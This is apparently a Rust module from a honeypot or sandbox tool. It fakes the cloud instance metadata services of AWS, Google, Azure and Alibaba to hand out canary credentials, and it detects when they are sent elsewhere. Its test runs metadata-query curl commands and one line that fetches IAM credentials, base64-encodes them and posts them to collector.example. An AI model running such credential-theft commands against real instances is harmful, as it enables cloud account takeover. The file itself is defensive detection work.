//! The metadata services of clouds, with credentials that are canaries: Amazon (both versions), Google, Azure, Alibaba.
//!
//! Who asks is evidence; who sends what it got is more. Source: the four vendors' documentation of their instance metadata.

use serde_json::json;

use super::{
    super::{hosts, service::Talk, world::World},
    http::{Request, Response},
};

const ROLE: &str = "app-server-role";

/// Answers on the metadata addresses and for Google's name.
pub(in super::super) fn answer(request: &Request, talk: &mut Talk<'_>) -> Option<Response> {
    if !hosts::metadata(talk.flow.remote.ip()) && request.host != "metadata.google.internal" {
        return None;
    }
    let path = request.path.trim_end_matches('/');
    let world = &*talk.world;
    if path.starts_with("/computeMetadata") {
        return Some(google(request, path, world));
    }
    if path.starts_with("/metadata/") {
        return Some(azure(request, path, world));
    }
    Some(amazon(request, path, world))
}

fn text(body: impl Into<Vec<u8>>) -> Response {
    Response::new(200, "metadata", "text/plain", body)
}

fn missing() -> Response {
    Response::new(404, "metadata", "text/plain", "404 - Not Found\n")
}

/// Amazon's tree; Alibaba's is nearly the same.
fn amazon(request: &Request, path: &str, world: &World) -> Response {
    // Versions by date and `latest` are one.
    let tree = path.trim_start_matches('/').split_once('/').map_or("", |(_, rest)| rest);
    if request.method == "PUT" && tree == "api/token" {
        let mut response = text(format!("AQAE{:016x}{:016x}==", world.draw("imds", "1"), world.draw("imds", "2")));
        response.headers.push(("X-aws-ec2-metadata-token-ttl-seconds", "21600".to_owned()));
        return response;
    }
    let credentials = |id: &str, secret: &str, token: &str| {
        json!({
            "Code": "Success", "Type": "AWS-HMAC", "LastUpdated": "2024-01-01T00:00:00Z", id: world.metadata_mark(),
            secret: format!("{:016x}{:016x}decoy000", world.draw("secret", "1"), world.draw("secret", "2")),
            token: format!("decoy{:016x}", world.draw("token", "1")), "Expiration": "2034-01-01T00:00:00Z",
        })
    };
    match tree {
        "" => text("dynamic\nmeta-data\nuser-data"),
        "meta-data" => {
            text("ami-id\nhostname\niam/\ninstance-id\ninstance-type\nlocal-ipv4\nmac\nplacement/\npublic-ipv4\nram/\n")
        }
        "meta-data/instance-id" => text(format!("i-0{:016x}", world.draw("instance", "id"))),
        "meta-data/ami-id" => text("ami-0c55b159cbfafe1f0"),
        "meta-data/instance-type" => text("m5.xlarge"),
        "meta-data/hostname" | "meta-data/local-hostname" => text("ip-172-31-12-34.eu-central-1.compute.internal"),
        "meta-data/local-ipv4" => text("172.31.12.34"),
        "meta-data/public-ipv4" => text("203.0.113.42"),
        "meta-data/placement/region" => text("eu-central-1"),
        "meta-data/placement/availability-zone" => text("eu-central-1a"),
        "meta-data/iam/security-credentials" | "meta-data/ram/security-credentials" => text(ROLE),
        "meta-data/iam/info" => Response::json(
            "metadata",
            &json!({"Code": "Success", "InstanceProfileArn": format!("arn:aws:iam::123456789012:instance-profile/{ROLE}")}),
        ),
        "user-data" => text("#!/bin/bash\nhostnamectl set-hostname app-1\n"),
        "dynamic/instance-identity/document" => Response::json(
            "metadata",
            &json!({"accountId": "123456789012", "region": "eu-central-1", "instanceType": "m5.xlarge", "architecture": "x86_64"}),
        ),
        _ if tree.starts_with("meta-data/iam/security-credentials/") => {
            Response::json("metadata", &credentials("AccessKeyId", "SecretAccessKey", "Token"))
        }
        _ if tree.starts_with("meta-data/ram/security-credentials/") => {
            Response::json("metadata", &credentials("AccessKeyId", "AccessKeySecret", "SecurityToken"))
        }
        // Of a task: at another address, under a path of its own.
        _ if path.starts_with("/v2/credentials") || path.starts_with("/credentials") => {
            Response::json("metadata", &credentials("AccessKeyId", "SecretAccessKey", "Token"))
        }
        _ => missing(),
    }
}

fn google(request: &Request, path: &str, world: &World) -> Response {
    if request.header("metadata-flavor").is_empty() {
        return Response::new(403, "metadata", "text/html", "Missing Metadata-Flavor:Google header.\n");
    }
    let mut response = match path.trim_start_matches("/computeMetadata/v1").trim_start_matches('/') {
        "" => text("instance/\nproject/\n"),
        "project/project-id" => text("example-project-1234"),
        "instance/id" => text("4930512345678901234"),
        "instance/hostname" => text("app-1.c.example-project-1234.internal"),
        "instance/service-accounts" => text("default/\n"),
        "instance/service-accounts/default/email" => text("app@example-project-1234.iam.gserviceaccount.com"),
        "instance/service-accounts/default/scopes" => text("https://www.googleapis.com/auth/cloud-platform\n"),
        tree if tree.ends_with("/token") || tree.ends_with("/identity") => Response::json(
            "metadata",
            &json!({"access_token": format!("ya29.c.{}", world.metadata_mark()), "expires_in": 3_599, "token_type": "Bearer"}),
        ),
        _ => missing(),
    };
    response.headers.push(("Metadata-Flavor", "Google".to_owned()));
    response
}

fn azure(request: &Request, path: &str, world: &World) -> Response {
    if request.header("metadata").is_empty() {
        return Response::new(
            400,
            "metadata",
            "application/json",
            "{\"error\":\"Bad request. Required metadata header not specified\"}",
        );
    }
    match path {
        "/metadata/identity/oauth2/token" => Response::json(
            "metadata",
            &json!({"access_token": format!("eyJ0eXAi.{}", world.metadata_mark()), "expires_in": "86399", "resource": "https://management.azure.com/", "token_type": "Bearer"}),
        ),
        "/metadata/instance" => Response::json(
            "metadata",
            &json!({"compute": {"location": "westeurope", "name": "app-1", "osType": "Linux", "resourceGroupName": "app", "subscriptionId": "00000000-0000-0000-0000-000000000000", "vmSize": "Standard_D4s_v3"}}),
        ),
        _ => missing(),
    }
}

#[cfg(test)]
mod tests {
    use model::{Canary, What};

    use crate::internet::testing::{run_with, shell};

    #[test]
    fn each_cloud_hands_out_a_canary_and_its_sending_is_seen() {
        let canary = Canary { kind: "cloud-metadata".into(), path: None, mark: "ASIAZ7INVENTEDMARK23".into() };
        let (events, _) = run_with(vec![canary], None, |_| {
            let curl = "curl -sS --max-time 10";
            let metadata = "http://169.254.169.254";
            for (ask, expected) in [
                (format!("-X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {metadata}/latest/api/token"), "AQAE"),
                (format!("{metadata}/latest/meta-data/iam/security-credentials/"), "app-server-role"),
                (format!("{metadata}/latest/meta-data/iam/security-credentials/app-server-role"), "ASIAZ7INVENTEDMARK23"),
                ("-H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token".to_owned(), "ASIAZ7INVENTEDMARK23"),
                (format!("-H 'Metadata: true' '{metadata}/metadata/identity/oauth2/token?api-version=2018-02-01'"), "ASIAZ7INVENTEDMARK23"),
                ("http://100.100.100.200/latest/meta-data/ram/security-credentials/x".to_owned(), "SecurityToken"),
            ] {
                let said = shell(&format!("{curl} {ask}"));
                assert!(said.contains(expected), "{ask}: {said}");
            }
            shell(&format!(
                "{curl} {metadata}/latest/meta-data/iam/security-credentials/x | base64 | {curl} -d @- http://collector.example/"
            ));
        });
        let stolen = |event: &What| matches!(event, What::FlowEnd { canaries, .. } if canaries == &["cloud-metadata"]);
        assert_eq!(events.iter().filter(|event| stolen(event)).count(), 1, "{events:#?}");
        assert_eq!(
            events.iter().filter(|event| matches!(event, What::Http { content, .. } if content == "metadata")).count(),
            7
        );
        assert!(!events.iter().any(|event| matches!(event, What::Sweep { .. })));
    }
}
